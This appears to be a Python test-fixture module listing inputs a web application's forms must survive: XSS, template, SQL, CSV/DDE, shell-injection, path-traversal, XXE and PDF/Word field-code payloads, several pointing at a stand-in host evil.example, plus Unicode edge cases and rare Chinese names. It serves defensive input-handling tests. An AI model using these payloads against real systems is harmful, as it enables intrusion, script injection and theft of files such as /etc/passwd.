"""Texts and names that forms must survive: shown and stored as they are, or refused in words; never a 500.

``HOSTILE`` is for every text field. ``RARE_NAMES`` are honest people's and round-trip unchanged wherever a
name may stand. ``REFUSED`` is what neither UTF-8 nor PostgreSQL can carry. Escapes stand where an editor
could change or hide a character.
"""

from __future__ import annotations

MARKUP = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</textarea><script>alert(2)</script>",
    "</title><svg onload=alert(3)>",
    "<img src=x onerror=alert(4)>",
    '"><img src=x onerror=alert(5)>',
    "' autofocus onfocus=alert(6) x='",
    '" onmouseover="alert(7)',
    "<a href=javascript:alert(8)>点我</a>",
    "javascript:alert(9)",
    "data:text/html,<script>alert(10)</script>",
    "<iframe srcdoc='<script>alert(11)</script>'></iframe>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>提交</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<math><mtext></p><style><!--</style><img title='--><img src=x onerror=alert(12)>'>",
    "<!--[if gte IE 4]><script>alert(13)</script><![endif]-->",
    "<![CDATA[<script>alert(14)</script>]]>",
    "&lt;script&gt;alert(15)&lt;/script&gt;",
    "&#60;script&#62;",
    "＜script＞alert(16)＜/script＞",
    "\\u003cscript\\u003e",
    "<object data=file:///etc/passwd>",
    "<img src=file:///etc/passwd>",
    "url(http://evil.example/a.png)",
]

TEMPLATES = [
    "{{ request.user.password }}",
    "{{ settings.SECRET_KEY }}",
    "{% load static %}{% debug %}",
    "{% include '/etc/passwd' %}",
    "{# nothing #}",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(name)s %s %d %n",
    "{0.__class__.__mro__}",
    "%0d%0aSet-Cookie:%20a=b",
]

QUERIES = [
    "' OR '1'='1",
    "'; DROP TABLE accounts_user; --",
    '" OR ""="',
    "1; SELECT pg_sleep(10)--",
    "\\'; SELECT 1;--",
    "%",
    "_",
    "\\",
    "*",
    "(((((((((((a+)+)+)+)+)+)+)+)+)+)+)+$",
    "__class__",
    "id__in=1",
    "-password",
]

SPREADSHEET = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    '=HYPERLINK("//evil.example")',
    "＝1+1",
    "\t=1+1",
    "=cmd|' /C calc'!A0",
]

SHELL = [
    "$(reboot)",
    "`reboot`",
    "| cat /etc/passwd",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "CON",
    "con.jpg",
]

SHAPES = [
    " ",
    "   前后有空格   ",
    "\u3000全角空格\u3000",
    "第一行\n第二行\r\n第三行",
    "制表\t符",
    "a" * 5000,
    "长" * 5000,
    "没有空格的很长的一行" * 60,
    "null",
    "None",
    "undefined",
    "NaN",
    "true",
    "0",
    "-1",
    "999999999999999999999999",
    "1e309",
    "１２３",
    "二〇二六年",
    "2026-02-30",
    "[]",
    "{}",
    '{"a": 1}',
    "👨\u200d👩\u200d👧\u200d👦",
    "🏫✏️📚",
    "e\u0301 与 \u00e9",
    "Z\u0351\u036b\u0343\u036a\u0302a\u0337l\u0334g\u0335o\u0321" * 20,
    "\u200b零宽\u200c空\u200d格\u2060\ufeff",
    "\u00ad软\u00ad连\u00ad字",
    "العربية עברית",
    "ﷺ" * 50,
    "ﬀ ㎡ Ⅷ ①",
    "\ufffd",
    "\ue000私用区",
    "\u2028行\u2029段",
]

BIDI = [
    "合格\u202e格不",
    "\u2066\u2067\u2068名\u2069",
    "照片\u202egpj.exe",
    "\u200f\u200e标记",
]

CONTROLS = ["铃\x07响", "\x1b[31m红", "删\x7f除", "\x85\x9f"]

# What only a document could fall for: the tools that lay it out, the file formats it ends in, its reader.
PAPER = [
    "</p></body></html>",
    "<br style='page-break-after: always'>",
    "<p id=end></p><p id=foot></p>",
    "<a href=#end>附件</a>",
    "<a rel=attachment href=file:///etc/passwd>附件</a>",
    "<img src=evidence:1>",
    "<img src=asset:icon.svg>",
    "<img src=asset:../css/report.css>",
    "evidence:1",
    "<svg><image href='http://evil.example/a.png'/></svg>",
    "<style>@page { margin: 0; size: A0 }</style>",
    "<style>@import url(http://evil.example/a.css);</style>",
    "<style>body::after { content: counter(page) target-text('#end') }</style>",
    "<p style='position: running(foot)'>印章</p>",
    "<p style='bookmark-level: 1; bookmark-label: \"x\"'>书签</p>",
    "<input type=text name=a value=b>",
    "&nbsp;&ensp;&#x3000;&shy;",
    "&#0;&#xD800;&#x202E;",
    "\\0041 \\A \\201C",
    "content: attr(data-foot)",
    "%PDF-1.7 %%EOF startxref 0",
    "1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj",
    "stream BT /F1 12 Tf (x) Tj ET endstream",
    ") Tj (",
    "<< /URI (http://evil.example) >>",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "]]></w:t><w:hyperlink r:id='rId1'>",
    "{ HYPERLINK 'http://evil.example' }",
    "{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe }",
    "{ INCLUDEPICTURE 'http://evil.example/a.png' }",
    "$x^2$ \\input{/etc/passwd}",
    "#import 'a.typ'; #read('/etc/passwd')",
    "——……《》〈〉「」『』【】〔〕（）“”‘’、，。；：？！",
    "（一）一、1. 自己写的序号",
    "〔2026〕7号",
]

HOSTILE: list[str] = MARKUP + TEMPLATES + QUERIES + SPREADSHEET + SHELL + SHAPES + BIDI + CONTROLS

# What UTF-8 or PostgreSQL text cannot hold: a form error, or a row without that character, never a crash.
REFUSED: list[str] = ["零\x00字节", "\x00", "半个\ud83d代理", "\udc00"]

RARE_NAMES: list[str] = [
    # Characters beyond the basic plane (extensions B to G) that people carry in their names.
    "\U00020bb7野家",  # 𠮷
    "李\U00020bb7",
    "王\u36c3",  # 㛃
    "\u36c3\u36c3",
    "张\U0002a3b1",
    "陈\U00020c8e",
    "刘\U00021853",
    "赵\U0002070e",
    "孙\U000237a2",
    "周\U00024f5c",
    "吴\U000259cc",
    "郑\U0002648d",
    "冯\U00027a3e",
    "何\U00028c47",
    "马\U0002983b",
    "高\U0002a6d6",
    "林\U0002a700",  # extension C
    "罗\U0002b740",  # extension D
    "梁\U0002b820",  # extension E
    "宋\U0002ceb0",  # extension F
    "唐\U00030000",  # extension G
    # Extension A and rare characters of the basic plane.
    "许\u3400",
    "韩\u3473",
    "曹\u4dae",
    "曾\u9fa6",
    "邓\u9fed",
    "肖\u9fef",
    "朱\u9555基",
    "陶\u55c6",
    "江\u7fbf",
    "龘龘",
    "犇骉",
    "燚炏",
    "淼㵘",
    "堃喆",
    "垚甯",
    "昇昇",
    "仝卞",
    "亓官",
    "爨",
    "䶮",
    "镕",
    "頔",
    "玥玥",
    "玊",
    "王\uf92c",  # a compatibility ideograph: NFC would change it, a name may not be changed
    "神\ufe00",  # a variation selector
    "葛\U000e0100飾",  # an ideographic variation
    # Minority and foreign names: middle dots, long, Latin, Tibetan, Uyghur, Mongolian, Hangul, Kana.
    "迪丽热巴·迪力木拉提",
    "买买提·吐尔逊•阿不都",
    "阿卜杜热伊木·阿卜杜热合曼·阿卜杜外力",
    "བཀྲ་ཤིས།",
    "ئالىم ئابدۇللا",
    "ᠪᠠᠲᠤ",
    "김철수",
    "さとう はなこ",
    "Mary-Jane O'Connor",
    "José Ñúñez",
    "Nguyễn Văn A",
    "Łukasz Żółć",
    "Ææ Øø Åå",
    "D’Angelo",
    "李〇",
    "李○明",
    "欧阳娜娜",
    "王一",
    "一一",
    "司马相如如如如如如如如如如如如如如",
]
